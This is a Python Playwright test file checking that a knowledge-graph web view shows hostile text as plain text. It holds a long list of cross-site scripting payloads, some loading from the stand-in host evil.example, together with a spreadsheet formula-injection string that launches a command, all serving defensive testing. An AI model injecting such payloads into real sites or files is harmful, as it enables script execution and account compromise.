"""Whatever an article holds is shown as text: it neither runs nor breaks the page."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from geokg.model import Actor, Kind, PlaceSpan, Statement, TimeSpan
from geokg.relations import load_relations
from geokg.view import render
from tests.view.samples import statement
from tests.view.visit import Visit

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser

TEXTS = [
    "<script>window.hacked = 1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>window.hacked = 1</script>",
    "</ScRiPt ><script>window.hacked = 1//",
    "<!--<script>window.hacked = 1</script>-->",
    "<!-- --!><script>window.hacked = 1</script>",
    "]]><script>window.hacked = 1</script>",
    "</title><script>window.hacked = 1</script>",
    "</style><script>window.hacked = 1</script>",
    "</textarea><script>window.hacked = 1</script>",
    "</noscript><script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    '<img src="x" onerror="window.hacked = 1">',
    "<img src=x onerror=window.hacked=1//",
    '"><img src=x onerror=window.hacked=1>',
    "'><img src=x onerror=window.hacked=1>",
    '"><svg/onload=window.hacked=1>',
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><script>window.hacked = 1</script></svg>",
    "<math><mtext></mtext><script>window.hacked=1</script></math>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<object data=javascript:window.hacked=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>* { display: none }</style>",
    "<form action=//evil.example/><button autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<marquee onstart=window.hacked=1>",
    "<a href='javascript:window.hacked=1'>href</a>",
    "javascript:window.hacked=1",
    "JaVaScRiPt:window.hacked=1",
    "java\tscript:window.hacked=1",
    "\x01javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "vbscript:window.hacked=1",
    "https://evil.example/\"onclick='window.hacked=1'",
    "{{ 7 * 7 }} {% raw %} ${window.hacked = 1} #{7*7}",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#x3C;img src=x onerror=window.hacked=1&#x3E;",
    '\\"; window.hacked = 1; //',
    "'); window.hacked = 1; ('",
    "line\u2028window.hacked = 1\u2029end",
    "nul \0 bell \x07 escape \x1b[31m delete \x7f",
    "\u202eevil\u2066 \u200f\u202dname\u202c",
    "zero\u200bwidth\u200d\ufeffjoined",
    "half \ud800 of a character",
    "the other \udfff half",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "\U0001f600" * 60,
    "Z\u0351\u0343\u0300" * 200,
    "N" * 10_000,
    "word " * 2_000 + "end",
    "<b>" * 3_000,
    "حكومة السودان",
    "中华人民共和国",
    "=cmd|' /C calc'!A0",
]


def name_of(place: int) -> str:
    """A harmless name that the actor of a case is found by."""
    return f"Case {place:03}"


def case(place: int, text: str) -> Statement:
    """A statement with the text wherever an article or a file of actors can bring one."""
    relation = replace(load_relations()["warns"], id=f"warns-{place}", label=text)
    odd = Actor(f"odd-{place}{text[:20]}", text, Kind.PERSON, iso3=text, wikidata=text, aliases=(name_of(place), text))
    told = statement(f"Alba warned {text} today.", relation=relation, title=text, source=text, url=text)
    # An address makes the key of an article, which no half character has a place in.
    article = replace(told.evidence.article, id=text, url=text.encode("utf-8", "replace").decode())
    return replace(
        told,
        object=odd,
        speaker=odd,
        via=(odd,),
        time=TimeSpan(text),
        place=PlaceSpan(text, odd),
        evidence=replace(told.evidence, article=article),
    )


@pytest.fixture(scope="module")
def visit(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visit]:
    """One page with all cases, so that they may also disturb each other."""
    statements = [case(place, text) for place, text in enumerate(TEXTS)]
    html = render(statements, title=TEXTS[0])
    opened = Visit(browser, tmp_path_factory.mktemp("hostile") / "graph.html", html)
    opened.page.click("#standings button:has-text('Reported')")
    yield opened
    opened.close()


def shown(text: str) -> str:
    """As it comes out of the browser: half a character is none; white space aside, which a page may fold."""
    return " ".join(re.sub("[\ud800-\udfff]", "\ufffd", text).split())


@pytest.mark.parametrize("place", range(len(TEXTS)), ids=lambda place: ascii(TEXTS[place])[1:30])
def test_hostile_text_is_shown_as_text(visit: Visit, place: int) -> None:
    visit.find(name_of(place))
    told = shown(visit.page.text_content("#panel") or "")
    assert told.count(shown(TEXTS[place])) >= 7  # name, relation, speaker, time, place, sentence, article
    schemes = visit.page.eval_on_selector_all("#panel a[href]", "links => links.map((link) => link.protocol)")
    assert set(schemes) <= {"http:", "https:"}
    assert (
        visit.page.locator("#panel :is(script, img, iframe, object, embed, base, meta, link, style, form)").count() == 0
    )
    assert (visit.wrong, visit.page.evaluate("typeof window.hacked")) == ([], "undefined")


def test_hostile_text_runs_in_no_tab(visit: Visit) -> None:
    for _ in visit.tabs():
        assert visit.page.evaluate("typeof window.hacked") == "undefined"
    assert visit.page.title() == TEXTS[0]


def test_nothing_that_is_drawn_as_text_moves_the_page(visit: Visit) -> None:
    wide, window = visit.page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert wide <= window
